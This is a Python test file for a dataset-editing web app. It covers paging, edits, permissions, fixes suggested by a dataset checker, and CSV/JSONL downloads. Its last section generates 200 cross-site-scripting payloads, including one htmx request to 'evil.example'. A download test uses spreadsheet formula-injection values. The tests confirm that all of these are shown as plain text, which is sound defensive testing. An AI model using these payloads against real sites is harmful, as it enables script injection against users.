"""The pages about a version's examples: find, change, compare, put right, download."""

import csv
import io
import json
import re
from array import array
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from app.core.models import (
    AuditEvent,
    CheckStatus,
    DatasetCheck,
    DatasetVersion,
    Example,
    Finding,
    Role,
    Severity,
    Split,
    User,
)
from app.datasets import changes, examples
from app.datasets.changes import Change
from app.datasets.doctor import checks
from app.datasets.turns import all_settled
from tests.app.web.pages import sign_in
from tests.factories import (
    make_base_model,
    make_dataset_version,
    make_department,
    make_job,
    make_user,
)
from worker.cpu import checking, reading


@pytest.fixture
def member(client: TestClient, db: Session) -> User:
    user = make_user(db)
    sign_in(client, db, user)
    return user


def newest(db: Session) -> DatasetVersion:
    db.expire_all()
    return db.scalars(select(DatasetVersion).order_by(DatasetVersion.id.desc()).limit(1)).one()


def numbers(html: str) -> list[int]:
    """The examples on a page of the list, by index."""
    return [int(each) for each in re.findall(r'name="index" value="(\d+)"', html)]


def mark(db: Session, version: DatasetVersion, kind: str, pairs: dict[int, int]) -> None:
    """A finding as the doctor keeps it: rows, and beside each the one it has to do with."""
    db.add(
        Finding(
            version_id=version.id,
            kind=kind,
            severity=Severity.WARN,
            count=len(pairs),
            rows=array("i", pairs).tobytes(),
            partners=array("i", pairs.values()).tobytes(),
            detail={},
        )
    )
    db.commit()


def test_examples_are_paged_filtered_and_found(
    client: TestClient, db: Session, member: User
) -> None:
    version = make_dataset_version(db, num_train=50, num_validation=10)
    mark(db, version, "duplicate", {3: 1, 52: 51})
    here = f"/versions/{version.id}/examples"
    first = client.get(here)
    assert numbers(first.text) == list(range(25))
    following = re.search(r'href="([^"]*start=25)">Next page', first.text)
    assert following is not None
    second = client.get(following[1].replace("&amp;", "&"))
    assert numbers(second.text) == list(range(25, 50)), second.url
    last = client.get(f"{here}?start=50").text
    assert numbers(last) == list(range(50, 60))
    assert "Next page" not in last
    assert numbers(client.get(f"{here}?split=validation").text) == list(range(50, 60))
    assert numbers(client.get(f"{here}?finding=duplicate").text) == [3, 52]
    assert numbers(client.get(f"{here}?finding=duplicate&split=train").text) == [3]
    assert "Duplicate (example 2)" in client.get(f"{here}?finding=duplicate").text
    assert numbers(client.get(f"{here}?q=RULE+41").text) == [41]
    found = client.get(here, params={"q": '"rule 7 says"'}).text
    assert numbers(found) == [7]
    assert 'value="&#34;rule 7 says&#34;"' in found
    assert "No matches." in client.get(f"{here}?q=elephants").text
    assert "No matches." in client.get(f"{here}?finding=nonsense").text
    assert client.get(f"{here}?start=99999999999999&order=up&split=x").status_code == 200
    assert client.get(f"{here}?before=x").status_code == 200


def test_pages_of_examples_lead_back_the_way_they_came(
    client: TestClient, db: Session, member: User
) -> None:
    version = make_dataset_version(db, num_train=60, num_validation=20)
    mark(db, version, "duplicate", dict.fromkeys(range(1, 60), 0))
    made = changes.derive(
        db, member, version, [Change(30, is_removed=True), Change(2, split=Split.VALIDATION)], "x"
    )
    check = DatasetCheck(version_id=version.id, status=CheckStatus.DONE)
    check.by_length = array("i", [*range(40, 80), *range(40)]).tobytes()
    db.add(check)
    db.commit()
    for base, wish in (
        (version, {}),
        (version, {"split": "train"}),
        (version, {"finding": "duplicate"}),
        (version, {"q": "wash hands"}),
        (version, {"order": "longest"}),
        (version, {"order": "shortest", "q": "rule"}),
        (made, {}),
        (made, {"split": "validation"}),
        (made, {"q": "rule"}),
    ):
        pages = [client.get(f"/versions/{base.id}/examples", params=wish).text]
        while address := link(pages[-1], "Next page"):
            pages.append(client.get(address).text)
        assert len(pages) > 2 or wish == {"split": "validation"}, wish
        assert link(pages[0], "Previous page") == ""
        back = pages[-1]
        for page in pages[-2::-1]:
            back = client.get(link(back, "Previous page")).text
            assert numbers(back) == numbers(page), wish
        assert link(back, "Previous page") == "", wish
    # From a place that no page began with, the first page is a whole one.
    page = client.get(f"/versions/{version.id}/examples?start=7").text
    first = client.get(link(page, "Previous page")).text
    assert numbers(first) == list(range(25))
    assert numbers(client.get(f"/versions/{version.id}/examples?before=0").text) == list(range(25))


def link(page: str, words: str) -> str:
    found = re.search(rf'href="([^"]*)">{words}<', page)
    return found[1].replace("&amp;", "&") if found else ""


def test_an_example_is_changed_in_a_new_version(
    client: TestClient, db: Session, member: User, broker: str
) -> None:
    version = make_dataset_version(db)
    here = f"/versions/{version.id}/examples/5"
    page = client.get(here)
    assert ">What is rule 5?</textarea>" in page.text
    form = {"content": ["What is\r\nrule 5?", "  "], "split": "train"}
    wrong = client.post(here, data=form)
    assert wrong.status_code == 422
    assert 'id="content-1-wrong"' in wrong.text
    assert re.search(r">What is\s+rule 5\?</textarea>", wrong.text)
    assert newest(db).id == version.id
    form = {"content": ["What is\r\nrule 5?", "Keep <b>calm</b>."], "split": "validation"}
    made = client.post(here, data=form)
    second = newest(db)
    assert made.url.path == f"/versions/{second.id}/examples"
    assert "1 example edited, 1 example moved" in made.text
    changed = examples.get(db, second, 5)
    assert changed is not None
    assert changed.messages[0]["content"] == "What is\nrule 5?"
    assert (changed.messages[1]["content"], changed.split) == ("Keep <b>calm</b>.", "validation")
    assert second.base_version_id == version.id
    old = examples.get(db, version, 5)
    assert old is not None
    assert old.messages[0]["content"] == "What is rule 5?"
    nothing = client.post(f"/versions/{second.id}/examples/5", data=form)
    assert "Nothing would change" in nothing.text
    compared = client.get(f"/versions/{second.id}/compare")
    assert "Edited" in compared.text
    assert "Moved from the practice set to the test set." in compared.text
    assert "Keep &lt;b&gt;calm&lt;/b&gt;." in compared.text
    assert compared.text.count('class="status') == 1
    assert client.get(f"/versions/{second.id}/examples/999").status_code == 404


def test_ticked_examples_are_moved_or_left_out_after_asking_once(
    client: TestClient, db: Session, member: User, broker: str
) -> None:
    version = make_dataset_version(db)
    here = f"/versions/{version.id}/examples"
    none = client.post(here, data={"action": "train"})
    assert "Select at least one example first." in none.text
    asked = client.post(here, data={"index": ["2", "7"], "action": "remove"})
    assert "Leave out 2 examples?" in asked.text
    assert newest(db).id == version.id
    client.post(here, data={"index": ["2", "7"], "action": "remove", "sure": "yes"})
    second = newest(db)
    assert (second.num_train, second.base_version_id) == (18, version.id)
    client.post(f"/versions/{second.id}/examples", data={"index": "3", "action": "validation"})
    third = newest(db)
    assert (third.num_train, third.num_validation) == (17, 5)
    compared = client.get(f"/versions/{third.id}/compare?base={version.id}").text
    assert compared.count("Left out") == 2
    assert compared.count("Moved from") == 1


def test_a_version_says_where_it_was_used(client: TestClient, db: Session, member: User) -> None:
    version = make_dataset_version(db)
    other = make_dataset_version(db, name="The same file")
    make_job(db, version=version, base_model=make_base_model(db))
    assert "Ward questions, first try" in client.get(f"/versions/{version.id}/train").text
    page = client.get(f"/versions/{version.id}/file").text
    assert f'href="/versions/{other.id}">The same file, version 1' in page


def test_others_neither_see_nor_change_examples(
    client: TestClient, db: Session, broker: str
) -> None:
    version = make_dataset_version(db, user=make_user(db))
    mark(db, version, "duplicate", {3: 1})
    paths = [
        "check",
        "train",
        "file",
        "examples",
        "examples/3",
        "findings/duplicate",
        "compare",
        "download",
    ]
    sign_in(client, db, make_user(db, department=make_department(db)))
    for path in paths:
        assert client.get(f"/versions/{version.id}/{path}").status_code == 404, path
    sign_in(client, db, make_user(db, role=Role.VIEWER))
    for path in paths:
        page = client.get(f"/versions/{version.id}/{path}")
        assert page.status_code == 200, path
        assert "<textarea" not in page.text
        assert 'name="index"' not in page.text
    tries: list[tuple[str, dict[str, Any]]] = [
        ("examples", {"index": "3", "action": "train"}),
        ("examples", {"index": "3", "action": "remove"}),
        ("examples/3", {"content": ["a", "b"], "split": "train"}),
        ("findings/duplicate", {"fix": "remove"}),
        ("check", {}),
    ]
    for path, form in tries:
        assert client.post(f"/versions/{version.id}/{path}", data=form).status_code == 403, path
    assert newest(db).id == version.id


def test_the_doctors_card_leads_to_a_version_put_right(
    client: TestClient, db: Session, member: User, broker: str
) -> None:
    rows = [f"What is rule {n}?,Rule {n} says so in full and in detail.\n" for n in range(12)]
    body = ("question,answer\n" + "".join(rows) + rows[3] + "Who?,Dear [NAME].\n").encode()
    client.post("/datasets/upload", data={"name": "Rules"}, files={"file": ("r.csv", body)})
    version = newest(db)
    reading.read_next("cpu-0")
    form = {"column": ["question", "answer"], "role": ["question", "answer"], "test_percent": "0"}
    client.post(f"/versions/{version.id}/confirm", data=form)
    reading.read_next("cpu-0")
    page = client.get(f"/versions/{version.id}/check").text
    assert "The check starts soon." in page
    assert checking.check_next("cpu-0")
    page = client.get(f"/versions/{version.id}/check").text
    assert "Not ready for training yet: one thing to fix first. 2 more are worth a look." in page
    assert "With 14 examples, first try a good instruction" in page
    finding = client.get(f"/versions/{version.id}/findings/duplicate").text
    assert "1 duplicate" in finding
    assert "Left out" in finding
    bad = client.post(f"/versions/{version.id}/findings/duplicate", data={"fix": "dance"})
    assert bad.status_code == 422
    done = client.post(f"/versions/{version.id}/findings/duplicate", data={"fix": "remove"})
    assert "1 example left out" in done.text
    second = newest(db)
    assert (second.num_train, second.base_version_id) == (13, version.id)
    assert examples.get(db, second, 12) is None
    assert checks.of(db, second) is not None
    events = set(db.scalars(select(AuditEvent.action)))
    assert "dataset.derive" in events


def test_downloads_can_be_read_back_and_harm_nobody(
    client: TestClient, db: Session, member: User
) -> None:
    version = make_dataset_version(db, num_train=12, num_validation=2)
    bad = ["=HYPERLINK(1)", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
    for index, text in enumerate(bad):
        row = db.get(Example, (version.id, index))
        assert row is not None
        row.messages = [
            {"role": "system", "content": "Be “brief”."},
            {"role": "user", "content": text},
            {"role": "assistant", "content": "No, naïve."},
        ]
    long = db.get(Example, (version.id, 7))
    assert long is not None
    long.messages = long.messages * 2
    db.commit()
    answer = client.get(f"/versions/{version.id}/download?form=jsonl")
    assert (
        f'filename="etude-{version.dataset_id}-version-1.jsonl"'
        in (answer.headers["content-disposition"])
    )
    lines = [json.loads(line) for line in answer.text.splitlines()]
    kept = [row["messages"] for batch in examples.stream(db, version) for row in batch]
    assert [line["messages"] for line in lines] == kept
    assert [line["part"] for line in lines] == ["practice"] * 12 + ["test"] * 2
    only = client.get(f"/versions/{version.id}/download?form=jsonl&split=validation").text
    assert len(only.splitlines()) == 2
    assert "part" not in json.loads(only.splitlines()[0])  # one part is as OpenAI has it
    table = client.get(f"/versions/{version.id}/download?form=csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert [row["question"] for row in rows[:6]] == ["'" + text for text in bad]
    assert (rows[0]["system"], rows[0]["answer"], rows[0]["part"]) == (
        "Be “brief”.",
        "No, naïve.",
        "practice",
    )
    assert (rows[7]["question"], json.loads(rows[7]["messages"])) == ("", long.messages)
    assert rows[13]["part"] == "test"
    # Read back by the reader itself, it becomes the same examples; no line ends with a `\r` alone.
    client.post(
        "/datasets/upload", data={"name": "Back"}, files={"file": ("b.jsonl", answer.content)}
    )
    back = newest(db)
    reading.read_next("cpu-0")
    client.post(
        f"/versions/{back.id}/confirm",
        data={"column": "messages", "role": "messages", "test_percent": "0"},
    )
    reading.read_next("cpu-0")
    again = [row["messages"] for batch in examples.stream(db, newest(db)) for row in batch]
    assert again == all_settled(kept)
    assert client.get(f"/versions/{version.id}/download?form=exe").status_code == 404


# --- what stands in people's rows never becomes part of a page -----------------------------

TAGS = [
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "body",
    "details",
    "math",
]
SHAPES = [
    "<{tag} src=x onerror=alert({n})>",
    '"><{tag} onload=alert({n})>',
    "'><{tag}/onfocus=alert({n}) autofocus>",
    "</textarea></title></style><{tag} id=x{n}>",
    "<{tag}\x0conmouseover=alert({n})//",
    "{{{{ {n} * 7 }}}}<{tag}>{{% raw %}}",
    "javascript:alert({n})//<{tag}>",
    "&lt;{tag} onclick=alert({n})&gt;<{tag}>",
    "]]><!--<{tag}>-->{n}",
    "\u202e<{tag} data-x={n}>",
    "<{tag} hx-get=//evil.example/{n} hx-trigger=load>",
    "` onpointerenter=alert({n}) x=`<{tag}>",
    '" autofocus onfocus=alert({n}) x="<{tag}>',
    '<a href="data:text/html,{n}"><{tag}>',
]
PAYLOADS = [
    shape.format(tag=tag, n=number * 1000 + place)
    for number, shape in enumerate(SHAPES)
    for place, tag in enumerate(TAGS)
][:200]


class _Elements(HTMLParser):
    """Every element of a page with the names and values of its attributes, and all of its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[tuple[str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.values += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def parsed(html: str) -> _Elements:
    page = _Elements()
    page.feed(html)
    page.close()
    return page


def test_two_hundred_payloads_appear_as_text_wherever_data_is_shown(
    client: TestClient, db: Session, member: User, broker: str
) -> None:
    """The same pages are made of payloads and of plain words: their elements must be the same."""
    assert len(set(PAYLOADS)) == 200
    attack = _pages(client, db, PAYLOADS, "attack")
    plain = _pages(client, db, [f"plain words {n}" for n in range(200)], "plain")
    assert set(attack) == set(plain)
    seen = ""
    for name, html in attack.items():
        page, harmless = parsed(html), parsed(plain[name])
        made = set(page.elements) - set(harmless.elements)
        assert not made, f"{name}: {made}"
        assert len(page.elements) == len(harmless.elements), name
        for attribute, value in page.values:
            if attribute in ("href", "src", "action", "hx-get", "hx-post", "formaction"):
                assert value.startswith(("/", "#", "data:,")) or value == "", (name, value)
        assert html.count("<script") == plain[name].count("<script"), name
        seen += page.text + " ".join(value for _, value in page.values)
    # As text they are all there, once signs that turn or hide text are shown as signs.
    missing = [each for each in PAYLOADS if _shown(each) not in seen]
    assert not missing, missing[:3]


def _shown(payload: str) -> str:
    from app.web.render import visible

    return visible(payload)


def _pages(client: TestClient, db: Session, words: list[str], name: str) -> dict[str, str]:
    """All pages that show data, made from these words: names, columns, cells, file names."""
    pages: dict[str, str] = {}
    question, answer = words[0][:60], words[1][:60]
    out = io.StringIO()
    table = csv.writer(out)
    table.writerow([question, answer, words[2][:60]])
    # A row of words in <> alone, below the names, would be taken for a hint.
    for place in (*range(20, 200, 2), *range(0, 20, 2)):
        table.writerow([words[place], words[place + 1], words[-place - 1]])
    filename = words[3].replace("/", "").replace("\\", "")[:80] + ".csv"
    client.post(
        "/datasets/upload",
        data={"name": words[4].replace("\x0c", " ")[:100]},
        files={"file": (filename, out.getvalue().encode())},
    )
    version = newest(db)
    pages["waiting"] = client.get(f"/versions/{version.id}").text
    reading.read_next("cpu-0")
    db.refresh(version)
    assert version.inspection is not None, version.reason
    pages["columns"] = client.get(f"/versions/{version.id}").text
    columns = [column["name"] for column in (version.mapping or {})["columns"]]
    form = {
        "column": columns,
        "role": ["question", "answer", "ignore"],
        "system": words[5],
        "test_percent": words[6],
    }
    pages["wrong columns"] = client.post(f"/versions/{version.id}/confirm", data=form).text
    pages["preview"] = client.post(f"/versions/{version.id}/preview", data=form).text
    client.post(f"/versions/{version.id}/confirm", data=form | {"test_percent": "10"})
    reading.read_next("cpu-0")
    version = newest(db)
    here = f"/versions/{version.id}"
    mark(db, version, "conflict", {3: 1, 9: 1})
    pages["ready"] = client.get(here).text
    for tab in ("check", "train", "file"):
        pages[tab] = client.get(f"{here}/{tab}").text
    pages["list"] = client.get("/datasets").text
    pages["wrong name"] = client.post(
        f"/datasets/{version.dataset_id}/rename", data={"name": words[7] * 30}
    ).text
    for start in range(0, 100, 25):
        pages[f"examples {start}"] = client.get(f"{here}/examples?start={start}").text
    # Looked for with what nothing holds, so that the page is the same for both.
    query = {"q": words[8] + " nowhere", "split": words[9], "finding": "x", "order": words[10]}
    pages["search"] = client.get(f"{here}/examples", params=query).text
    pages["example"] = client.get(f"{here}/examples/4").text
    pages["finding"] = client.get(f"{here}/findings/conflict").text
    for fix in ("longest", "merge", words[11]):
        address = f"{here}/findings/conflict"
        pages[f"finding {fix if fix != words[11] else 'odd'}"] = client.get(
            address, params={"fix": fix}
        ).text
    pages["leave out"] = client.post(
        f"{here}/examples", data={"index": ["1", "2"], "action": "remove"}
    ).text
    wrong = {"content": [words[12], words[13], " "], "split": words[14]}
    pages["wrong example"] = client.post(f"{here}/examples/4", data=wrong).text
    wrong = {"content": [words[15], words[16], words[17]], "split": "train"}
    client.post(f"{here}/examples/4", data=wrong)
    second = newest(db)
    assert second.id != version.id
    pages["compare"] = client.get(f"/versions/{second.id}/compare").text
    pages["second"] = client.get(f"/versions/{second.id}").text
    client.post(f"/datasets/{version.dataset_id}/delete")  # lists show it no more
    return pages
